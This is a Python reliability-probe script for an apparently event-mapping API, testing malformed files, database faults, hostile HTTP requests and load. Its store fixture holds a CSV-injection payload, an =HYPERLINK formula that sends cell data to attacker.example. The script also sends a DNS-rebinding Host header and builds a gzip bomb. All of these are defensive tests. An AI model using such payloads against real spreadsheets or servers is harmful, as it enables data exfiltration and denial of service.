"""Reliability probes -> docs/RELIABILITY.md: bad inputs, store faults, hostile HTTP, schemathesis,
and a load test of the map's queries on a 1,000,000-event store while an ingest runs.

    .venv/bin/python benchmarks/reliability.py [--events 1000000] [--requests 4000] [--seconds 60]
                                               [--db PATH] [--out docs/RELIABILITY.md]

Everything runs on this machine, loopback only, bounded in count and time. The inputs and the
events are made up here (no corpus text). The store for the load test is built by
benchmarks/bench_api.py's `build_store` and kept at --db, so later runs skip building it.
Not part of `make test`; `make reliability` runs it.
"""

from __future__ import annotations

import argparse
import asyncio
import csv
import gzip
import io
import json
import os
import random
import re
import shutil
import socket
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))
from bench_api import build_store, hotspots, random_view
from sections import write_section

REPO = Path(__file__).resolve().parents[1]
PYTHON = sys.executable
INPUT_TIME_LIMIT_S = 60.0  # an input that takes longer than this is "not handled" (a stall)
STORY = (
    "Russian forces shelled Kharkiv on Monday, officials said. "
    "Police arrested two protesters in Berlin on Tuesday. "
)


@dataclass
class Probe:
    name: str
    ok: bool
    detail: str


# --- bad inputs ---------------------------------------------------------------------------------


def _warc(pages: int, gz: bool) -> bytes:
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    buf = io.BytesIO()
    writer = WARCWriter(buf, gzip=gz)
    for i in range(pages):
        body = f"<html><body><article><p>Report {i}. {STORY * 3}</p></article></body></html>".encode()
        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], "HTTP/1.1")
        writer.write_record(
            writer.create_warc_record(
                f"https://n.example/{i}", "response", payload=io.BytesIO(body), http_headers=headers
            )
        )
    return buf.getvalue()


def _read(path: Path | str) -> tuple[list[Any], float, bool]:
    """Items read from one input, the seconds it took, and whether it finished in time."""
    from lagebild.sources import read_inputs

    items: list[Any] = []
    worker = threading.Thread(target=lambda: items.extend(read_inputs([str(path)])), daemon=True)
    started = time.perf_counter()
    worker.start()
    worker.join(INPUT_TIME_LIMIT_S)
    return items, time.perf_counter() - started, not worker.is_alive()


def bad_inputs(tmp: Path) -> list[Probe]:
    from lagebild.model import Document
    from lagebild.nlp.sentences import split_sentences
    from lagebild.sources import IngestError

    def docs(items: list[Any]) -> list[Document]:
        return [i for i in items if isinstance(i, Document)]

    def errors(items: list[Any]) -> list[IngestError]:
        return [i for i in items if isinstance(i, IngestError)]

    cases: list[tuple[str, Callable[[Path], Path | str], Callable[[list[Any]], bool]]] = []

    def fifo_folder(d: Path) -> Path:
        (d / "in").mkdir()
        (d / "in" / "a.txt").write_text(STORY)
        os.mkfifo(d / "in" / "p.txt")
        return d / "in"

    def fifo(d: Path) -> Path:
        os.mkfifo(d / "pipe.html")
        return d / "pipe.html"

    def write(name: str, data: bytes) -> Callable[[Path], Path]:
        def make(d: Path) -> Path:
            (d / name).write_bytes(data)
            return d / name

        return make

    whole, whole_gz = _warc(4, False), _warc(4, True)
    cases += [
        (
            "FIFO inside an input folder",
            fifo_folder,
            lambda r: len(docs(r)) == 1 and "FIFO" in str(errors(r)),
        ),
        ("FIFO named directly", fifo, lambda r: len(errors(r)) == 1 and not docs(r)),
        ("character device (/dev/zero)", lambda d: "/dev/zero", lambda r: len(errors(r)) == 1),
    ]
    for keep in (0.3, 0.55, 0.8, 0.97):
        for gz, data in ((False, whole), (True, whole_gz)):
            name = f"truncated {'.warc.gz' if gz else '.warc'} at {keep:.0%}"
            cases.append(
                (
                    name,
                    write(f"cut{keep}{gz}.warc{'.gz' if gz else ''}", data[: int(len(data) * keep)]),
                    lambda r: len(errors(r)) == 1 and "truncated" in str(errors(r)[0]) and len(docs(r)) < 4,
                )
            )
    cases += [
        (
            "gzip trailer cut off",
            write("trailer.warc.gz", whole_gz[:-4]),
            lambda r: "truncated" in str(errors(r)),
        ),
        (
            "binary file named .txt",
            write("img.txt", b"\x89PNG\r\n\x1a\n" + os.urandom(4000)),
            lambda r: len(errors(r)) == 1,
        ),
        ("empty file", write("empty.txt", b""), lambda r: len(errors(r)) == 1),
        (
            "UTF-16-LE text without BOM",
            write("u16.txt", (STORY * 3).encode("utf-16-le")),
            lambda r: len(docs(r)) == 1 and "Kharkiv" in docs(r)[0].text,
        ),
        (
            "UTF-16-BE Cyrillic without BOM",
            write("u16be.txt", ("Российские войска обстреляли Харьков. " * 5).encode("utf-16-be")),
            lambda r: len(docs(r)) == 1 and "Харьков" in docs(r)[0].text,
        ),
        (
            "zero-width characters in 30% of letters",
            write(
                "zw.txt",
                "".join(c + ("\u200b" if i % 3 == 0 else "") for i, c in enumerate(STORY * 3)).encode(),
            ),
            lambda r: len(docs(r)) == 1 and "\u200b" not in docs(r)[0].text and "Kharkiv" in docs(r)[0].text,
        ),
        (
            "bidi controls around words",
            write("bidi.txt", STORY.replace("Kharkiv", "\u202eKharkiv\u202c").encode()),
            lambda r: len(docs(r)) == 1 and "\u202e" not in docs(r)[0].text,
        ),
        (
            "JSONL with broken and non-object lines",
            write("bad.jsonl", b'{"text": "' + STORY.encode() + b'"}\n{broken\n[1,2]\n{"text": 5}\n'),
            lambda r: len(docs(r)) == 1 and len(errors(r)) == 3,
        ),
        (
            "feed cut in the middle of an item",
            write(
                "cut.xml", b'<?xml version="1.0"?><rss><channel><title>T</title><item><title>A</title><desc'
            ),
            lambda r: len(errors(r)) >= 1,
        ),
        (
            "HTML with scripts only",
            write(
                "s.html",
                b"<html><head><script>alert(1)</script></head><body><script>x</script></body></html>",
            ),
            lambda r: len(errors(r)) == 1,
        ),
        (
            "gzip bomb (not a WARC)",
            write("bomb.gz", gzip.compress(b"\0" * (64 << 20))),
            lambda r: len(errors(r)) == 1,
        ),
    ]
    probes = []
    for name, make, check in cases:
        folder = Path(tempfile.mkdtemp(dir=tmp))
        items, seconds, finished = _read(make(folder))
        ok = finished and check(items)
        shown = "; ".join(str(i)[:90] for i in errors(items)) or f"{len(docs(items))} document(s)"
        probes.append(
            Probe(
                name, ok, f"{seconds:.2f} s: {shown}" if finished else f"still running after {seconds:.0f} s"
            )
        )
    # The splitter's abbreviation check was quadratic: 512 KiB on one line took minutes.
    unit = "Die Armee meldete 12 Angriffe bei Charkiw. Dr. Weber sprach am 3. Mai. "
    text = unit * (512 * 1024 // len(unit))
    started = time.perf_counter()
    n = len(split_sentences(text))
    seconds = time.perf_counter() - started
    probes.append(
        Probe("512 KiB on one line: sentence split", seconds < 5, f"{seconds:.2f} s, {n:,} sentences")
    )
    return probes


# --- store faults -----------------------------------------------------------------------------


def _snapshot(path: Path) -> tuple[int, int]:
    conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        return tuple(conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in ("documents", "events"))  # type: ignore[return-value]
    finally:
        conn.close()


def _filled(path: Path) -> Path:
    from lagebild.model import Actor, Document, Event, Evidence
    from lagebild.store.sqlite import SQLiteStore

    with SQLiteStore(path) as store:
        doc = Document.create(STORY, lang="en")
        sentence = STORY.split(". ")[0] + "."
        event = Event(
            id="e1",
            type="ASSAULT",
            acled_event_type="Battles",
            actors=[Actor('=HYPERLINK("http://attacker.example/?d="&A1,"open")')],
            evidence=[Evidence(doc.id, sentence, 0, len(sentence), "en")],
        )
        store.add_document(doc, [event])
    return path


def _chattr(path: Path, flag: str) -> bool:
    tool = shutil.which("chattr")
    return bool(tool) and subprocess.run([tool, flag, str(path)], capture_output=True).returncode == 0


def store_faults(tmp: Path) -> list[Probe]:
    from lagebild.model import Document
    from lagebild.store import StoreUnavailable
    from lagebild.store.migrations import latest_version
    from lagebild.store.sqlite import SQLiteStore

    probes = []

    def attempt(name: str, path: Path, action: Callable[[], Any], expect: str) -> None:
        before = _snapshot(path)
        try:
            action()
            message, ok = "no error", False
        except StoreUnavailable as exc:
            message = str(exc)
            ok = expect in message and "\n" not in message and "cannot rollback" not in message
        except Exception as exc:  # what must not happen: another exception, a traceback
            message, ok = f"{type(exc).__name__}: {exc}", False
        after = _snapshot(path)
        ok = ok and before == after
        probes.append(Probe(name, ok, f"{message[:150]} (documents, events {before} -> {after})"))

    path = _filled(tmp / "full.db")
    store = SQLiteStore(path)
    pages = store._conn.execute("PRAGMA page_count").fetchone()[0]
    store._conn.execute(f"PRAGMA max_page_count = {pages + 2}")
    big = Document.create(STORY + "x" * 300_000, lang="en")
    attempt(
        "full disk (page limit) during a write", path, lambda: store.add_document(big, []), "disk is full"
    )
    store.close()

    path = _filled(tmp / "locked.db")
    other = sqlite3.connect(path, isolation_level=None)
    other.execute("BEGIN EXCLUSIVE")
    locked = SQLiteStore(path, timeout=0.5)
    attempt("database locked by another process", path, lambda: locked.add_document(big, []), "locked")
    other.execute("ROLLBACK")
    other.close()
    locked.close()

    path = _filled(tmp / "newer.db")
    conn = sqlite3.connect(path)
    conn.execute(f"PRAGMA user_version = {latest_version() + 1}")
    conn.commit()
    conn.close()
    attempt("database from a newer version", path, lambda: SQLiteStore(path), "newer")

    path = _filled(tmp / "ro.db")
    if _chattr(path, "+i"):
        try:
            ro = SQLiteStore(path)
            readable = ro.stats()["documents"] == 1
            attempt("read-only (immutable) file: write", path, lambda: ro.add_document(big, []), "read-only")
            probes[-1].ok = probes[-1].ok and readable
            probes[-1].detail += f"; reading: {'ok' if readable else 'FAILED'}"
            ro.close()
        finally:
            _chattr(path, "-i")
        folder = tmp / "media"
        folder.mkdir()
        path = _filled(folder / "wal.db")
        if _chattr(folder, "+i"):
            try:
                with SQLiteStore(path) as wal:
                    ok = wal.read_only and wal.stats()["events"] == 1
                probes.append(
                    Probe("WAL store in a read-only folder: read", ok, "opened read-only (immutable=1)")
                )
            except Exception as exc:
                probes.append(
                    Probe("WAL store in a read-only folder: read", False, f"{type(exc).__name__}: {exc}")
                )
            finally:
                _chattr(folder, "-i")
    else:
        probes.append(Probe("read-only file", False, "not probed: chattr +i does not work here"))
    return probes


# --- hostile HTTP ---------------------------------------------------------------------------------


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


class Server:
    """`create_app` on a store, served by uvicorn in a child process on 127.0.0.1."""

    def __init__(self, db: Path, token: str = "probe-token") -> None:
        self.port = _free_port()
        self.token = token
        code = (
            "import uvicorn\n"
            "from lagebild.api import create_app\n"
            "from lagebild.api.server import host_rule\n"
            f"app = create_app('sqlite:///{db}', token={token!r}, allowed_hosts=host_rule('127.0.0.1'))\n"
            f"uvicorn.run(app, host='127.0.0.1', port={self.port}, log_level='warning')\n"
        )
        self.process = subprocess.Popen([PYTHON, "-c", code], cwd=REPO)
        self.url = f"http://127.0.0.1:{self.port}"
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            try:
                with socket.create_connection(("127.0.0.1", self.port), timeout=1):
                    return
            except OSError:
                time.sleep(0.2)
        raise SystemExit("the server did not start")

    def cpu_s(self) -> float:
        """CPU seconds the server process has used (all its threads): the cost of what it
        served, which a busy machine does not inflate the way it does wall time."""
        fields = Path(f"/proc/{self.process.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def rss_mb(self) -> float:
        status = Path(f"/proc/{self.process.pid}/status").read_text()
        return int(re.search(r"VmRSS:\s+(\d+)", status).group(1)) / 1024

    def stop(self) -> None:
        self.process.terminate()
        self.process.wait(10)


def http_probes(db: Path) -> list[Probe]:
    import base64

    import httpx

    server = Server(db)
    probes = []
    try:
        with httpx.Client(base_url=server.url, timeout=30) as client:
            big_seq = (
                base64.urlsafe_b64encode(json.dumps(["2024-01-01", 2**63]).encode()).decode().rstrip("=")
            )
            hostile = [
                ("/api/events", {"cursor": big_seq}, 422),
                ("/api/events", {"until": "9999-12", "bbox": "30,45,40,55"}, 200),
                ("/api/events.geojson", {"until": "9999-12", "bbox": "30,45,40,55"}, 200),
                ("/api/events.csv", {"until": "9999-12", "bbox": "30,45,40,55"}, 200),
                ("/api/timeline", {"until": "9999-12", "bbox": "30,45,40,55"}, 200),
                ("/api/events", {"updated_since": "0001-01-01T00:00:00+14:00"}, 200),
                ("/api/events", {"bbox": "inf,0,0,0"}, 422),
                ("/api/stream", {"last_event_id": "²"}, 422),
                ("/api/stream", {"last_event_id": "9" * 5000}, 422),
            ]
            for path, params, want in hostile:
                got = client.get(path, params=params).status_code
                key, value = next(iter(params.items()))
                probes.append(
                    Probe(
                        f"GET {path} {key}={value[:20]}",
                        got == want,
                        f"{got} (want {want})",
                    )
                )
            got = client.get("/api/events", headers={"Host": "rebind.attacker.example"}).status_code
            probes.append(Probe("Host: rebind.attacker.example (DNS rebinding)", got == 400, f"{got}"))
            got = client.options("/api/documents")
            probes.append(
                Probe(
                    "OPTIONS /api/documents",
                    got.status_code == 204 and "POST" in got.headers.get("allow", ""),
                    f"{got.status_code} Allow: {got.headers.get('allow')}",
                )
            )
            cells = [c for row in csv.reader(io.StringIO(client.get("/api/events.csv").text)) for c in row]
            hyperlink = [c for c in cells if "HYPERLINK" in c]
            probes.append(
                Probe(
                    "CSV export of an actor named =HYPERLINK(...)",
                    bool(hyperlink) and all(c.startswith("'") for c in hyperlink),
                    f"cell written as {hyperlink[0][:30]!r}" if hyperlink else "no such cell",
                )
            )

        # 1 GiB chunked without a token: refused at once, the server's memory does not grow.
        before = server.rss_mb()
        sent = 0

        def body():
            nonlocal sent
            chunk = b"x" * (1 << 20)
            for _ in range(1024):
                sent += len(chunk)
                yield chunk

        started = time.perf_counter()
        try:
            with httpx.Client(base_url=server.url, timeout=30) as client:
                status = client.post(
                    "/api/documents", content=body(), headers={"Content-Type": "application/json"}
                ).status_code
        except httpx.HTTPError as exc:
            status = f"connection closed ({type(exc).__name__})"
        grew = server.rss_mb() - before
        probes.append(
            Probe(
                "1 GiB chunked POST without a token",
                (status == 401 or isinstance(status, str)) and grew < 50,
                f"{status} after {time.perf_counter() - started:.2f} s, {sent >> 20} MiB sent, server RSS +{grew:.0f} MB",
            )
        )
        before = server.rss_mb()
        try:
            with httpx.Client(base_url=server.url, timeout=60) as client:
                status = client.post(
                    "/api/documents",
                    content=body(),
                    headers={"Authorization": f"Bearer {server.token}", "Content-Type": "application/json"},
                ).status_code
        except httpx.HTTPError as exc:
            status = f"connection closed ({type(exc).__name__})"
        grew = server.rss_mb() - before
        probes.append(
            Probe(
                "1 GiB chunked POST with the token",
                (status == 413 or isinstance(status, str)) and grew < 100,
                f"{status}, server RSS +{grew:.0f} MB",
            )
        )
        with httpx.Client(base_url=server.url, timeout=30) as client:
            codes = [
                client.post(
                    "/api/documents", json={}, headers={"Authorization": f"Bearer {server.token}"}
                ).status_code
                for _ in range(40)
            ]
        probes.append(
            Probe(
                "40 writes at once from one client",
                429 in codes and 500 not in codes,
                f"{codes.count(429)} answered 429 (limit: 30 at once, 120 a minute)",
            )
        )
    finally:
        server.stop()
    return probes


def schemathesis_run() -> Probe:
    started = time.perf_counter()
    result = subprocess.run(
        [PYTHON, "-m", "pytest", "tests/test_api_schema.py", "-p", "no:cacheprovider"],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=900,
    )
    found = re.findall(r"(\d+ (?:passed|failed|error)[^\n]*?) in [\d.]+s", result.stdout)
    tail = found[-1] if found else (result.stdout.strip().splitlines() or ["no output"])[-1]
    tail += " (25 examples per operation; 500s, status codes, content types, response schemas, schema-valid values)"
    if result.returncode != 0:  # say what failed: the operation and schemathesis' first line of it
        failed = re.findall(r"^E\s+(?:- )?(.{0,140})$", result.stdout, re.M)[:3]
        tail += "; failed: " + " / ".join(
            failed or re.findall(r"^FAILED (.{0,140})$", result.stdout, re.M)[:3]
        )
    return Probe(
        "schemathesis (tests/test_api_schema.py)",
        result.returncode == 0,
        f"{tail} in {time.perf_counter() - started:.0f} s",
    )


# --- load ----------------------------------------------------------------------------------------


def _ingest_corpus(path: Path, n: int, seed: int) -> Path:
    """Made-up reports, each with a unique line, so that every one is a new document."""
    rng = random.Random(seed)
    places = ["Kharkiv", "Berlin", "Paris", "Gaza", "Kyiv", "Warsaw", "Madrid", "Istanbul"]
    with path.open("w", encoding="utf-8") as fh:
        for i in range(n):
            place = rng.choice(places)
            text = (
                f"Police arrested {rng.randint(2, 90)} protesters in {place} on Monday, officials said. "
                f"Troops shelled positions near {rng.choice(places)} overnight. Report {seed}-{i}."
            )
            fh.write(json.dumps({"text": text, "lang": "en", "published": "2024-03-11"}) + "\n")
    return path


def load_test(db: Path, n_requests: int, seconds: float, connections: int, tmp: Path) -> dict[str, Any]:
    import httpx

    server = Server(db)
    corpus = _ingest_corpus(tmp / "ingest.jsonl", 2000, int(time.time()))
    ingest = subprocess.Popen(
        [str(Path(PYTHON).parent / "lagebild"), "ingest", "--db", f"sqlite:///{db}", str(corpus)],
        cwd=REPO,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    rng = random.Random(11)
    spots = hotspots(random.Random(7))
    views = [random_view(rng, spots) for _ in range(n_requests)]
    times: list[float] = []
    errors: list[str] = []

    async def run() -> float:
        queue: asyncio.Queue[dict[str, str]] = asyncio.Queue()
        for view in views:
            queue.put_nowait(view)
        deadline = time.monotonic() + seconds
        limits = httpx.Limits(max_connections=connections, max_keepalive_connections=connections)

        async def worker(client: httpx.AsyncClient) -> None:
            while time.monotonic() < deadline:
                try:
                    view = queue.get_nowait()
                except asyncio.QueueEmpty:
                    return
                t0 = time.perf_counter()
                try:
                    response = await client.get("/api/events", params=view)
                    if response.status_code != 200:
                        errors.append(f"{response.status_code}")
                except httpx.HTTPError as exc:
                    errors.append(type(exc).__name__)
                times.append((time.perf_counter() - t0) * 1000)

        async with httpx.AsyncClient(base_url=server.url, timeout=30, limits=limits) as client:
            await client.get("/api/events", params=views[0])  # warm the page cache once
            started = time.perf_counter()
            await asyncio.gather(*(worker(client) for _ in range(connections)))
            return time.perf_counter() - started

    try:
        before = _snapshot(db)
        # The load starts once the ingest stores documents (its workers load their data first).
        deadline = time.monotonic() + 300
        while _snapshot(db)[0] == before[0] and ingest.poll() is None and time.monotonic() < deadline:
            time.sleep(1)
        before = _snapshot(db)
        cpu_before = server.cpu_s()
        elapsed = asyncio.run(run())
        cpu = server.cpu_s() - cpu_before
        ingest_running = ingest.poll() is None
    finally:
        ingest.terminate()
        ingest.wait(30)
        server.stop()
    after = _snapshot(db)
    times.sort()
    return {
        "requests": len(times),
        "seconds": elapsed,
        "rps": len(times) / elapsed if elapsed else 0.0,
        "p50": statistics.median(times) if times else float("nan"),
        "p99": times[min(len(times) - 1, max(0, round(0.99 * len(times)) - 1))] if times else float("nan"),
        "max": times[-1] if times else float("nan"),
        "errors": len(errors),
        "error_kinds": sorted(set(errors)),
        "connections": connections,
        "server_cpu_ms_per_request": cpu * 1000 / max(1, len(times)),
        "load_average": os.getloadavg()[0],
        "ingest_running_to_the_end": ingest_running,
        "documents_added": after[0] - before[0],
    }


# --- report ----------------------------------------------------------------------------------------


def _table(probes: list[Probe]) -> str:
    lines = ["| probe | handled | what happened |", "|---|---|---|"]
    for p in probes:
        lines.append(f"| {p.name} | {'yes' if p.ok else '**NO**'} | {p.detail.replace('|', '/')} |")
    return "\n".join(lines)


def report(groups: dict[str, list[Probe]], schema: Probe, load: dict[str, Any], n_events: int) -> str:
    counts = {name: (sum(p.ok for p in probes), len(probes)) for name, probes in groups.items()}
    target = "met" if load["p99"] < 100 and load["errors"] == 0 else "**missed**"
    out = [
        "Measured by `make reliability` (benchmarks/reliability.py) on "
        f"{time.strftime('%Y-%m-%d')}, {os.cpu_count()} CPU cores.",
        "",
        "| | result |",
        "|---|---|",
        f"| bad inputs tried / handled | {counts['inputs'][1]} / {counts['inputs'][0]} |",
        f"| store faults survived (one line, nothing lost or doubled) | {counts['faults'][0]} / {counts['faults'][1]} |",
        f"| hostile HTTP requests handled | {counts['http'][0]} / {counts['http'][1]} |",
        f"| schemathesis | {'pass' if schema.ok else '**FAIL**'}: {schema.detail} |",
        f"| load: /api/events, map views, {n_events:,} events, {load['connections']} connections, ingest running | "
        f"{load['requests']:,} requests in {load['seconds']:.1f} s: {load['rps']:.0f} req/s, "
        f"p50 {load['p50']:.1f} ms, p99 {load['p99']:.1f} ms, max {load['max']:.0f} ms, "
        f"{load['errors']} errors {load['error_kinds'] or ''}; server CPU {load['server_cpu_ms_per_request']:.1f} ms "
        f"per request; {load['documents_added']} documents ingested meanwhile; load average {load['load_average']:.1f} "
        f"(target p99 < 100 ms, 0 errors: {target}) |",
        "",
    ]
    for title, name in (("Bad inputs", "inputs"), ("Store faults", "faults"), ("Hostile HTTP", "http")):
        out += [f"### {title}", "", _table(groups[name]), ""]
    return "\n".join(out)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--requests", type=int, default=4000, help="at most this many load requests")
    parser.add_argument("--seconds", type=float, default=60.0, help="at most this long for the load test")
    parser.add_argument("--connections", type=int, default=8)
    parser.add_argument("--db", type=Path, default=Path(tempfile.gettempdir()) / "lagebild-reliability.db")
    parser.add_argument("--out", type=Path, default=None, help="write the table into this file's section")
    args = parser.parse_args(argv)
    tmp = Path(tempfile.mkdtemp(prefix="lagebild-reliability-"))
    try:
        groups = {"inputs": bad_inputs(tmp), "faults": store_faults(tmp)}
        print(_table(groups["inputs"] + groups["faults"]), file=sys.stderr)
        small = _filled(tmp / "http.db")
        groups["http"] = http_probes(small)
        print(_table(groups["http"]), file=sys.stderr)
        schema = schemathesis_run()
        print(schema, file=sys.stderr)
        if not args.db.exists():
            print(f"building {args.events:,} synthetic events in {args.db} ...", file=sys.stderr)
            started = time.perf_counter()
            build_store(args.db, args.events)
            print(f"built in {time.perf_counter() - started:.0f} s", file=sys.stderr)
        load = load_test(args.db, args.requests, args.seconds, args.connections, tmp)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    section = report(groups, schema, load, args.events)
    print(section)
    if args.out is not None:
        write_section(args.out, "reliability", section)
    return 0


if __name__ == "__main__":
    sys.exit(main())
